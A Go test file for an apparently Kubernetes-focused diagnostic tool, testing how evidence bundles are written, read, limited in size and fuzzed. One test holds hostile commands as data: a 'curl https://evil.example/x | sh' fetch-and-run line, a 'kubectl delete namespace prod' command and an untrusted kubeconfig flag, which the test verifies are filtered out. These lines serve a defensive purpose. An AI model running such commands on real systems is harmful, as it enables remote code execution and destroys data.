package fact

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/akstools/akstools/internal/check"
	"github.com/akstools/akstools/internal/cmdline"
)

func packed(t testing.TB, text string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := z.Write([]byte(text)); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// readAll returns the targets of a bundle of insideout.
func readAll(file []byte) (all []BundledTarget, err error) {
	err = ReadTargets(file, "insideout", func(t BundledTarget) error {
		all = append(all, t)
		return nil
	})
	return all, err
}

func TestBundleRoundTrip(t *testing.T) {
	env, app := bound(), theApp()
	pods := &testFact[[]string]{Name: "pods"}
	info := appInfo{Name: "web", Selector: map[string]string{"app": "web"}}
	Put(env, app, info, check.Evidence{Source: cmdline.Kubectl("get", "service", "web")})
	target, err := env.Bundled()
	if err != nil {
		t.Fatal(err)
	}
	var file bytes.Buffer
	if err := (&Bundle{BundleVersion: BundleVersion, Plugin: "insideout", Targets: []BundledTarget{target}}).Write(&file); err != nil {
		t.Fatal(err)
	}
	targets, err := readAll(file.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	again, err := Unbundle(targets[0], []Any{app, pods})
	if err != nil {
		t.Fatal(err)
	}
	got, _, err := again.Fact(t.Context(), app)
	if diff := cmp.Diff(info, got); diff != "" || err != nil {
		t.Error(diff, err)
	}
	if _, _, err := again.Fact(t.Context(), pods); err == nil {
		t.Error("a fact that the bundle does not hold is known")
	}
}

// What a doctor saves can be read, however many commands show the same.
func TestBundlesKeepAsMuchEvidenceAsCanBeRead(t *testing.T) {
	env, app := bound(), theApp()
	var seen []check.Evidence
	for i := range maxEvidence + 500 {
		seen = append(seen, check.Evidence{Source: cmdline.Kubectl("get", "node", fmt.Sprint("node-", i))})
	}
	Put(env, app, appInfo{Name: "web"}, seen...)
	target, err := env.Bundled()
	if err != nil {
		t.Fatal(err)
	}
	var file bytes.Buffer
	if err := (&Bundle{BundleVersion: BundleVersion, Plugin: "insideout", Targets: []BundledTarget{target}}).Write(&file); err != nil {
		t.Fatal(err)
	}
	targets, err := readAll(file.Bytes())
	if err != nil || len(targets) != 1 || len(targets[0].Facts["app"].Evidence) != maxEvidence {
		t.Errorf("%d targets, %v", len(targets), err)
	}
}

// TestBundlesShowOnlyReadingCommands holds that of a bundle's evidence only commands that read are left, and lines.
func TestBundlesShowOnlyReadingCommands(t *testing.T) {
	var evidence []check.Evidence
	err := json.Unmarshal([]byte(`[
		{"source": ["kubectl", "get", "pods", "-n", "shop"]},
		{"source": ["kubectl", "delete", "namespace", "prod"]},
		{"source": ["sh", "-c", "curl https://evil.example/x | sh"], "lines": ["a line"]},
		{"source": ["kubectl", "get", "pods", "--kubeconfig=/tmp/evil"], "lines": ["another"]}]`), &evidence)
	if err != nil {
		t.Fatal(err)
	}
	app := theApp()
	bundled := BundledTarget{Facts: map[string]BundledFact{"app": {Value: json.RawMessage(`{"name":"web"}`), Evidence: evidence}}}
	m, err := Unbundle(bundled, []Any{app})
	if err != nil {
		t.Fatal(err)
	}
	_, kept, err := m.Fact(t.Context(), app)
	want := []check.Evidence{{Source: cmdline.Kubectl("get", "pods", "-n", "shop")}, {Lines: []string{"a line"}}, {Lines: []string{"another"}}}
	if diff := cmp.Diff(want, kept); diff != "" || err != nil {
		t.Error(diff, err)
	}
}

func TestReadTargetsRefuses(t *testing.T) {
	enormous := packed(t, `{"bundleVersion":1,"plugin":"insideout","targets":[`+strings.Repeat(" ", maxBundle)+`]}`)
	good := packed(t, `{"bundleVersion":1,"plugin":"insideout","targets":[{"facts":{}}]}`)
	for name, try := range map[string]struct {
		file []byte
		says string
	}{
		"empty":          {nil, "not a bundle"},
		"text":           {[]byte("hello"), "not a bundle"},
		"cut":            {good[:len(good)-6], "damaged"},
		"no JSON":        {packed(t, "hello"), "damaged"},
		"enormous":       {enormous, "larger than"},
		"another format": {packed(t, `{"bundleVersion":2,"plugin":"insideout","targets":[{}]}`), "version 2"},
		"another plugin": {packed(t, `{"bundleVersion":1,"plugin":"tunneldoctor","targets":[{}]}`), "tunneldoctor"},
		"no target":      {packed(t, `{"bundleVersion":1,"plugin":"insideout"}`), "no target"},
	} {
		if _, err := readAll(try.file); err == nil || !strings.Contains(err.Error(), try.says) {
			t.Errorf("%s: %v", name, err)
		}
	}
	if _, err := readAll(good); err != nil {
		t.Error(err)
	}
	if _, err := Unbundle(BundledTarget{Facts: map[string]BundledFact{"weather": {}}}, []Any{theApp()}); err == nil {
		t.Error("an unknown fact is accepted")
	}
}

// Each thing that a bundle may hold many of has a limit, and the error says which; half as many are read.
func TestReadTargetsCounts(t *testing.T) {
	times := func(n int, text string) string { return strings.TrimSuffix(strings.Repeat(text+",", n), ",") }
	fact := func(value, evidence string) string {
		return `{"facts":{"app":{"value":{"x":[` + value + `]},"evidence":[` + evidence + `]}}}`
	}
	command, line := `{"source":["kubectl","get","pods"]}`, `"line"`
	for says, c := range map[string]struct {
		max     int
		targets func(n int) string
	}{
		"more than 2000 targets": {MaxTargets, func(n int) string { return times(n, "{}") }},
		"commands as evidence":   {maxEvidence, func(n int) string { return fact("", times(n, command)) }},
		"permissions that are missing": {maxMissing, func(n int) string {
			return `{"facts":{"app":{"error":"x","missing":[` + times(n, `"get pods"`) + `]}}}`
		}},
		"lines of evidence": {maxLines, func(n int) string {
			return fact("", `{"lines":[`+times(n-1, line)+`]},{"lines":[`+line+`]}`)
		}},
		"values": {maxValues, func(n int) string { return fact(times(n, "1"), "") }},
	} {
		for _, n := range []int{c.max / 2, c.max + 1} {
			_, err := readAll(packed(t, `{"bundleVersion":1,"plugin":"insideout","targets":[`+c.targets(n)+`]}`))
			if n < c.max && err != nil || n > c.max && (err == nil || !strings.Contains(err.Error(), says)) {
				t.Errorf("%d where at most %d are read: %v", n, c.max, err)
			}
		}
	}
}

func FuzzReadTargets(f *testing.F) {
	f.Add(packed(f, `{"bundleVersion":1,"plugin":"insideout","targets":[{"facts":{"app":{"value":{"name":"web"}}}}]}`))
	f.Add([]byte("\x1f\x8b"))
	f.Fuzz(func(t *testing.T, file []byte) {
		targets, err := readAll(file)
		if err != nil {
			return
		}
		for _, target := range targets {
			if env, err := Unbundle(target, []Any{theApp()}); err == nil {
				_, _ = env.Bundled()
			}
		}
	})
}
